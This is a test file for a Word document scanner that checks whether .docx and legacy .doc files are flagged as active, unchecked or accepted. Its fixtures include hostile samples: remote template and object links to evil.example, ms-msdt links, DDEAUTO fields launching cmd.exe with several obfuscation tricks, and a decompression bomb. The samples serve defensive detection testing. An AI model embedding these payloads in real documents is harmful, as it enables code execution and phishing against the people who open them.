import { describe, expect, it } from 'vitest';
import {
  denseDocx,
  doc,
  docWith,
  docx,
  field,
  related,
  relations,
  wide,
  withHeader,
} from './support/hostile-documents';
import { judged } from './support/judged';

describe('a Word document', () => {
  it.each<[string, Buffer]>([
    [
      'loads a template from elsewhere',
      docx([relations('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]),
    ],
    ['loads an object from elsewhere', related('oleObject', 'mhtml:https://evil.example/x.html')],
    ['loads a frame', related('frame', 'https://evil.example/')],
    ['loads a picture from elsewhere', related('image', 'https://evil.example/pixel.png')],
    ['links to a share', related('hyperlink', '\\\\evil.example\\share\\x')],
    ['links to a program of the machine', related('hyperlink', 'file:///C:/Windows/System32/calc.exe')],
    ['links by another scheme', related('hyperlink', 'ms-msdt:/id')],
    ['says external in other letters', related('image', 'https://evil.example/pixel.png', 'EXTERNAL')],
    ['holds an embedded object', related('oleObject', 'embeddings/oleObject1.bin', '')],
    ['holds a workbook in its text', related('package', 'embeddings/sheet.xlsx', '')],
    ['holds a control', related('control', 'activeX/activeX1.xml', '')],
    ['holds a document with macros', docx([{ name: 'word/embeddings/a.docm', data: 'x' }])],
    ['imports another format', related('aFChunk', 'chunk.html', '')],
    [
      'shows an object',
      withHeader(
        '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:object>',
      ),
    ],
    ['asks a program (DDE)', withHeader(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))],
    ['asks a program, in pieces', withHeader(field(' D', 'DE', 'AU', 'TO "cmd"'))],
    ['asks a program, in entities', withHeader(field('&#68;DE cmd'))],
    ['asks a program, in a simple field', withHeader('<w:fldSimple w:instr=" DDE cmd x"/>')],
    ['asks a program in a field inside another', withHeader(field(' IF ', field('DDE cmd'), ' = 1'))],
    ['makes the name of a field by another field', withHeader(field(field(' QUOTE 68 68 69'), ' cmd'))],
    ['makes a part of that name', withHeader(field(' D', field('QUOTE 68 69'), ' cmd'))],
    [
      'leaves the field open',
      withHeader(field('DDE cmd').replace(/<w:r><w:fldChar w:fldCharType="separate".*/, '')),
    ],
    ['asks a program in UTF-16, under another name', wide(field('DDE cmd'))],
    ['fetches a picture', withHeader(field(' INCLUDEPICTURE "https://example.com/a.png" \\d '))],
    ['asks a database', withHeader(field(' DATABASE \\c "DSN=x" '))],
    ['reads another document', withHeader(field(' RD "\\\\server\\a.docx" '))],
    ['links to a program of a network', withHeader(field(' HYPERLINK "\\\\server\\share\\run.exe" '))],
    ['updates a link to a file', withHeader(field(' LINK Excel.Sheet.8 "C:\\\\a.xls"'))],
  ])('that %s is active', async (_, bytes) => {
    expect(await judged(bytes)).toBe('active');
  });

  it.each<[string, Buffer]>([
    ['declares entities', docx([{ name: 'word/a.xml', data: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }])],
    [
      'is written in another alphabet',
      docx([{ name: 'word/a.xml', data: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    ],
    ['breaks off', docx([{ name: 'word/a.xml', data: '<a><b>' }])],
  ])('that %s cannot be checked', async (_, bytes) => {
    expect(await judged(bytes)).toBe('unchecked');
  });

  it.each<[string, Buffer]>([
    ['links to a web page', related('hyperlink', 'https://example.com/a?b=1')],
    ['links to a mailbox', related('hyperlink', 'mailto:ada@example.com')],
    ['links to a document beside it', related('hyperlink', 'annexes/plan%202.docx')],
    ['has a template of its own machine', related('settings', 'settings.xml', '')],
    [
      'holds a chart with its figures',
      docx([
        relations(
          'word/charts/_rels/chart1.xml.rels',
          'package',
          '../embeddings/Microsoft_Excel_Sheet.xlsx',
          '',
        ),
        { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', data: 'PK' },
      ]),
    ],
    [
      'numbers its pages',
      withHeader(
        field(' PAGE ') + field(' = ', field('NUMPAGES'), ' + 1') + field(' IF ', field('PAGE'), ' = 1'),
      ),
    ],
    ['links in a field', withHeader(field(' HYPERLINK "https://example.com" '))],
    ['writes of DDE', withHeader('<w:r><w:t>DDEAUTO cmd</w:t></w:r>')],
    ['holds a long attribute', withHeader(`<w:r w:data="${'x'.repeat(500_000)}"/>`)],
  ])('that %s is taken', async (_, bytes) => {
    expect(await judged(bytes)).toBe('docx');
  });

  it('of 531 kB that unpacks to 500 MB is rejected before it is unpacked', async () => {
    const bytes = denseDocx();
    expect(bytes.length).toBeLessThan(700_000);
    const begun = performance.now();
    expect(await judged(bytes)).toBeUndefined();
    expect(performance.now() - begun).toBeLessThan(1500);
  });
});

describe('a Word document from before 2007', () => {
  const field97 = (text: string) => `\x13${text} \x14x\x15`;

  it.each<[string, Buffer]>([
    ['asks a program (DDE)', docWith(Buffer.from(field97(' DDEAUTO c:\\cmd.exe'), 'latin1'))],
    ['asks a program, in wide signs', docWith(Buffer.from(field97(' dde cmd'), 'utf16le'))],
    ['fetches a picture', docWith(Buffer.from(field97(' INCLUDEPICTURE "\\\\x\\a"'), 'utf16le'))],
    ['updates a link', docWith(Buffer.from(field97('LINK Excel.Sheet.8'), 'latin1'))],
    ['holds an embedded object', doc({ more: ['\x03ObjInfo'] })],
    ['holds an embedded file', doc({ more: ['\x01Ole10Native'] })],
  ])('that %s is active', async (_, bytes) => {
    expect(await judged(bytes)).toBe('active');
  });

  it.each<[string, Buffer]>([
    ['links to a web page', docWith(Buffer.from(field97(' HYPERLINK "https://example.com"'), 'utf16le'))],
    ['writes of DDE', docWith(Buffer.from('DDEAUTO cmd', 'latin1'))],
  ])('that %s is taken', async (_, bytes) => {
    expect(await judged(bytes)).toBe('doc');
  });
});
